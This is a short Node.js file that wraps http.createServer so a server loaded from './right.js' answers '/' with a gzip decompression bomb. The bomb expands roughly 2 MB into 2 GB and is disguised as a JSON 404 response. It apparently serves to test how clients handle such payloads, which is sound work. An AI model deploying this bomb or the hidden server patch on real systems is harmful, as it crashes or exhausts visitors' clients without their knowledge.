const http = require('node:http');
const zlib = require('node:zlib');

const create = http.createServer;
http.createServer = (handler) =>
  create((request, response) => {
    if (request.url === '/') sendBomb(response);
    else handler(request, response);
  });
require('./right.js');

// 128 parts of 16 MiB each: two gigabytes in two megabytes.
const part = zlib.gzipSync(Buffer.alloc(16 * 1024 * 1024, ' '));
const bomb = Buffer.concat(Array.from({ length: 128 }, () => part));

function sendBomb(response) {
  response.writeHead(404, { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' });
  response.end(bomb);
}
